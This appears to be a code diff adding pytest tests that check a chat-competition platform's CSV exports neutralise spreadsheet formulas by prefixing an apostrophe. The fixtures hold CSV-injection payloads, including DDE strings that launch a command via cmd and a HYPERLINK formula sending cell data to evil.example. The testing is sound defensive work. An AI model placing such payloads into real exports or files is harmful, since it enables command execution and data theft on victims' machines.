@@ -1,5 +1,7 @@
 """Round trips: each format read back with pandas matches the database, anonymized."""
 
+import csv
+import io
 import json
 from datetime import UTC
 
@@ -8,6 +10,7 @@ import pytest
 from chat.models import Conversation, Judgment, Message
 from exports.builder import ExportRequest, iter_batches, load_conversations, table_specs
 from exports.pseudonyms import Pseudonymizer, new_salt
+from hulic.csv_cells import FORMULA_STARTS
 from tests.exports.conftest import RAW_FLAGGED_TEXT
 from tests.exports.helpers import jsonl_records, read_archive, run_export, tables
 
@@ -163,3 +166,61 @@ def test_an_export_carries_the_analysis_plan_with_its_hash(dataset):
     assert [version["sha256"] for version in plan["versions"]] == [locked.sha256]
     assert plan["versions"][0]["kind"] == AnalysisPlan.Kind.LOCKED
     assert plan_hash(plan["versions"][0]["plan"]) == locked.sha256
+
+
+HOSTILE_TEXT = "=cmd|' /C calc'!A0"
+HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_BOT = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+HOSTILE_TEAM = "+1+cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(dataset):
+    from chat.models import Judgment, Message
+
+    competition = dataset["competition"]
+    competition.include_bot_names_in_exports = True
+    competition.save(update_fields=["include_bot_names_in_exports"])
+    bot = competition.bots.get(name="botqzx-alpha")
+    bot.name = HOSTILE_BOT
+    bot.save(update_fields=["name"])
+    bot.team.name = HOSTILE_TEAM
+    bot.team.save(update_fields=["name"])
+    conversation = dataset["conversations"][0]
+    Message.objects.filter(conversation=conversation, seq=1).update(text=HOSTILE_TEXT, delivered_text=HOSTILE_TEXT)
+    Message.objects.filter(conversation=conversation, seq=2).update(text="\t-tabbed", delivered_text="\t-tabbed")
+    Judgment.objects.filter(conversation=conversation).update(reason=HOSTILE_REASON)
+    return dataset
+
+
+def test_csv_exports_neutralise_formulas_in_text_cells(hostile):
+    files = read_archive(run_export(hostile["competition"], fmt="csv"))
+    cells = {
+        name: [cell for row in csv.reader(io.StringIO(files[name].decode(), newline="")) for cell in row]
+        for name in files
+        if name.endswith(".csv")
+    }
+
+    for raw in (HOSTILE_TEXT, HOSTILE_BOT, HOSTILE_TEAM, "\t-tabbed"):
+        assert "'" + raw in cells["messages.csv"]
+    assert "'" + HOSTILE_REASON in cells["judgments.csv"]
+    for name, values in cells.items():
+        formulas = [cell for cell in values if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
+        assert formulas == [], name
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_the_text_exact(hostile, fmt):
+    exported = tables(run_export(hostile["competition"], fmt=fmt))
+
+    assert HOSTILE_TEXT in set(exported["messages"]["text"])
+    assert "\t-tabbed" in set(exported["messages"]["text"])
+    assert HOSTILE_REASON in set(exported["judgments"]["reason"])
